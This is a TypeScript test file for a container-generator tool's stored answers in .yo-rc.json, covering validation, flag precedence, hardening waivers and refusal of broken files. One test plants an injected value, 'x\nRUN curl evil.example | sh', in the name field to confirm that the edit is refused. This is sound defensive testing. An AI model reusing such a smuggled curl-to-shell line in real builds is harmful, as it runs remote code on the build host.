import assert from 'node:assert/strict';
import type { RawAnswers } from '../../src/answers/parse.ts';
import { readStored, storedFile, writeStored } from '../../src/answers/stored.ts';
import { exitCodes, Refusal } from '../../src/refusal.ts';
import { assertSentence, parsed, problemsOf, refusal } from './parsed-answers.ts';

/** What is in the file once these answers are written. */
function stored(given: RawAnswers): RawAnswers {
  return readStored(writeStored(undefined, parsed(given)));
}

/** Answers that name every field that may be stored. */
const everything: RawAnswers = {
  name: 'orders',
  description: 'Takes orders.',
  allowEol: true,
  language: 'go',
  languageVersion: '1.26',
  kind: 'http',
  port: 9090,
  base: 'alpine',
  baseVersion: '3.12.1',
  module: 'example.org/orders',
  registry: 'ghcr.io/acme',
  mirror: 'mirror.example/hub',
  preset: 'custom',
  hardening: ['no-setuid', 'healthcheck'],
  with: ['seccomp'],
  without: ['healthcheck'],
  waiver: ['no-shell=cron needs one; until 2027-01-31'],
  extras: ['tour'],
  data: '/var/lib/orders',
};

describe('stored answers', () => {
  it('are read unmodified, with their choices', () => {
    assert.deepEqual(parsed({}, stored(everything)), parsed(everything));
  });

  it('hold nothing that says nothing', () => {
    assert.deepEqual(Object.keys(stored({ kind: 'worker' })), [
      ...['name', 'description', 'language', 'languageVersion', 'kind', 'base', 'module', 'preset'],
    ]);
  });

  it('are validated like any others: what was edited by hand is refused, and says where it is', () => {
    const edited = { ...stored({}), name: 'x\nRUN curl evil.example | sh' };
    assert.match(refusal({}, edited), /^name "x\\nRUN curl .*" \(in \.yo-rc\.json\) isn't valid/);
    assert.match(refusal({}, { port: '80' }), /^--port "80" \(in \.yo-rc\.json\) isn't valid/);
  });

  it('are named all at once where several cannot be used', () => {
    const fields = problemsOf({ name: 'A' }, { port: 1, base: 'x', extras: [1], nonsense: 1 });
    assert.deepEqual(
      fields.map(({ field }) => field),
      ['nonsense', 'name', 'port', 'base', 'extras'],
    );
  });

  it('are refused once their version is past its end of life', () => {
    const message = refusal({}, stored({ base: 'alpine', baseVersion: '3.22' }), {
      today: '2027-05-01',
    });
    assert.match(message, /\(in \.yo-rc\.json\) has had no security support since 2027-05-01/);
  });

  it('are beaten by a flag', () => {
    const given = { port: 8081, description: 'New.', registry: '', extras: '' };
    const answers = parsed(given, stored(everything));
    assert.deepEqual(
      [answers.port, answers.description, answers.registry, answers.extras],
      [8081, 'New.', '', []],
    );
    assert.equal(answers.baseVersion, '3.12.1', 'the rest stays');
  });

  it('are beaten by the default where a flag makes them void', () => {
    const file = stored(everything);
    assert.equal(parsed({ base: 'debian' }, file).baseVersion, '13');
    assert.equal(parsed({ base: 'scratch', preset: 'strict' }, file).baseVersion, '');
    assert.equal(parsed({ name: 'bills' }, file).module, 'example.com/bills');
    assert.deepEqual(parsed({ kind: 'worker' }, file).waiver, []);
    assert.equal(parsed({ kind: 'worker' }, file).port, 8080);
    assert.deepEqual(parsed({ preset: 'strict' }, file).waived, []);
  });

  it('stay where a flag says what is stored anyway', () => {
    const { name, base, kind, preset, language } = everything;
    assert.deepEqual(
      parsed({ name, base, kind, preset, language }, stored(everything)),
      parsed(everything),
    );
  });
});

describe('hardening options that are stored', () => {
  it('give way to the exact set that is given', () => {
    const { chosen, waived } = parsed(
      { hardening: 'seccomp' },
      stored({ preset: 'custom', hardening: '', waiver: 'seccomp=an old kernel' }),
    );
    assert.ok(chosen.some(({ id }) => id === 'seccomp'));
    assert.ok(!waived.some(({ id }) => id === 'seccomp'));
  });

  it('give way to one that is added or left out by name', () => {
    const without = stored({ without: 'seccomp,no-setuid' });
    assert.deepEqual(ids(parsed({ with: 'seccomp' }, without).waived), ['no-setuid']);
    const waived = stored({ waiver: ['seccomp=old', 'no-setuid=old'] });
    assert.deepEqual(ids(parsed({ with: 'seccomp' }, waived).waived), ['no-setuid']);
    const added = stored({ preset: 'tutorial', with: 'seccomp,no-setuid' });
    for (const given of [{ without: 'seccomp' }, { waiver: 'seccomp=old' }]) {
      const { chosen } = parsed(given, added);
      assert.ok(!ids(chosen).includes('seccomp'));
      assert.ok(ids(chosen).includes('no-setuid'));
    }
  });
});

function ids(things: readonly { readonly id: string }[]): string[] {
  return things.map(({ id }) => id);
}

describe('a .yo-rc.json', () => {
  const key = 'generator-hardened-container';

  it('keeps what other generators have in it, in its order', () => {
    const theirs =
      '{"generator-node":{"a":[1]},"generator-hardened-container":{"port":1},"z":null}';
    const text = writeStored(theirs, parsed());
    assert.deepEqual(Object.keys(JSON.parse(text)), ['generator-node', key, 'z']);
    assert.deepEqual(JSON.parse(text)['generator-node'], { a: [1] });
    assert.deepEqual(readStored(text), stored({}));
  });

  it('is the same text when the same answers are written again', () => {
    const once = writeStored('{"generator-node": {}}', parsed(everything));
    assert.equal(writeStored(once, parsed(everything)), once);
    assert.ok(once.endsWith('}\n') && once.includes('\n  "generator-node"'), 'laid out for people');
  });

  it('holds no answers where there is none, or none of ours in it', () => {
    assert.deepEqual(readStored(undefined), {});
    assert.deepEqual(readStored('{}'), {});
    assert.deepEqual(readStored('{"generator-node": {"name": "x"}}'), {});
    assert.deepEqual(readStored(`{"${key}": null}`), {});
  });

  const broken = [
    '',
    '{',
    'null',
    '[]',
    '"x"',
    '7',
    '{"a": 1,}',
    `{"${key}": {}}}`,
    '\ufeff{}',
    '\0',
  ];
  for (const text of broken)
    it(`that is broken is refused with a sentence, read or written: ${JSON.stringify(text)}`, () => {
      for (const use of [() => readStored(text), () => writeStored(text, parsed())])
        assert.throws(use, isRefusal(".yo-rc.json isn't a JSON object. Fix or delete the file."));
    });

  for (const answers of ['[]', '7', '"x"', 'true'])
    it(`that holds no answers where ours should be is refused with a sentence: ${answers}`, () => {
      assert.throws(
        () => readStored(`{"${key}": ${answers}}`),
        isRefusal(`.yo-rc.json has no object under "${key}". Fix or delete the file.`),
      );
    });
});

function isRefusal(message: string): (error: unknown) => boolean {
  return (error) => {
    assert.ok(error instanceof Refusal);
    assert.equal(error.message, message);
    assert.equal(error.code, exitCodes.usage);
    assertSentence(error.message);
    assert.ok(error.message.includes(storedFile));
    return true;
  };
}
